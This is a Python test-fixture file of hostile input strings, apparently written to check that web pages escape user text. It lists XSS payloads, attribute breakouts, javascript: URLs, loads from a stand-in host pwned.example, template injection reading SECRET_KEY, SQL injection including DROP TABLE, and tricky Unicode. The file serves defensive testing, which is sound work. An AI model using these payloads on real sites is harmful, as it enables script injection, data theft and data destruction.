"""Texts that break careless pages. What could run sets `window.__pwned` or has it in its name."""

RUN = "window.__pwned=1"

MARKUP = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//pwned.example/x.js></SCRIPT><ScRiPt>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f'<script type="module">{RUN}</script>',
    f"</title><script>{RUN}</script><x-pwned>",
    f"</textarea><x-pwned><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"</style></noscript></template><x-pwned><img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" OnErRoR="{RUN}">',
    f"<img/src=x/onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<math href="javascript:{RUN}"><mtext><x-pwned>',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<embed src="javascript:{RUN}">',
    '<form action="//pwned.example/"><button>x</button></form>',
    f'<button formaction="javascript:{RUN}">x</button>',
    '<base href="//pwned.example/">',
    '<meta http-equiv="refresh" content="0;url=//pwned.example/">',
    '<link rel="stylesheet" href="//pwned.example/x.css">',
    "<style>@import '//pwned.example/x.css';</style>",
    '<b style="background:url(//pwned.example/x)">x</b>',
    '<b hx-get="//pwned.example/" hx-trigger="load">x</b>',
    f'<b data-hx-on:load="{RUN}" hx-on::load="{RUN}">x</b>',
    f'<x-pwned x-data="{RUN}" @click="{RUN}" v-html="{RUN}">',
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="jav&#x09;ascript:{RUN}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
]
ATTRIBUTES = [
    f'" onmouseover="{RUN}" data-pwned="',
    f"' onfocus='{RUN}' autofocus data-pwned='",
    f"` onclick={RUN} data-pwned=`",
    f'"><x-pwned><script>{RUN}</script>',
    f"'><x-pwned><img src=x onerror={RUN}>",
]
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" \tjava\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "vbscript:pwned",
    "//pwned.example/",
]
SCRIPT = [f"';{RUN};//", f'";{RUN};//', f"\\u003cscript\\u003e{RUN}", f"${{{RUN}}}"]
TEX = [
    f"\\(\\href{{javascript:{RUN}}}{{x}}\\)",
    f"\\(\\text{{</math><script>{RUN}</script>}}\\)",
    f'\\(x^{{"><img src=x onerror={RUN}>}}\\)',
]
ENTITIES = [f"&lt;script&gt;{RUN}&lt;/script&gt;", "&#60;x-pwned&#62;", "&amp;lt;b&amp;gt; &notit;"]
TEMPLATE = ["{{ 7|add:7000 }} {{ settings.SECRET_KEY }}", "{% load pwned %}{% now 'Y' %}", "{#"]
FORMAT = ["%s %n %(pwned)s %d", "{0.__class__} {pwned} {}", "%00 %0d%0aSet-Cookie: pwned=1"]
SQL = ["'; DROP TABLE accounts_user; --", '" OR 1=1 --', "\\'; SELECT 1; /*", "100%_"]
LETTERS = [
    "\u202egnp.exe\u202c \u2066x\u2069",
    "שלום (אב) 1, 2, Latin مرحبا",
    "Z\u0351\u036b\u0343a\u0323\u0347l\u034cg\u0321o\u0315",
    "👩‍👩‍👧‍👦 🏳️‍🌈 𝔘𝔫𝔦",
    "a\u200bb\ufeffc\u00add",
    "nul\x00 bell\x07 escape\x1b[31m",
    "Long" * 50,
    "a\r\nb\u2028c\td",
]
TEXTS = [
    *MARKUP, *ATTRIBUTES, *ADDRESSES, *SCRIPT, *TEX, *ENTITIES, *TEMPLATE, *FORMAT, *SQL, *LETTERS,
]  # fmt: skip
# What a browser could run.
ACTIVE = [*MARKUP, *ATTRIBUTES, *TEX]
# Short enough for every field.
SHORT = f"<img src=x onerror={RUN}>"
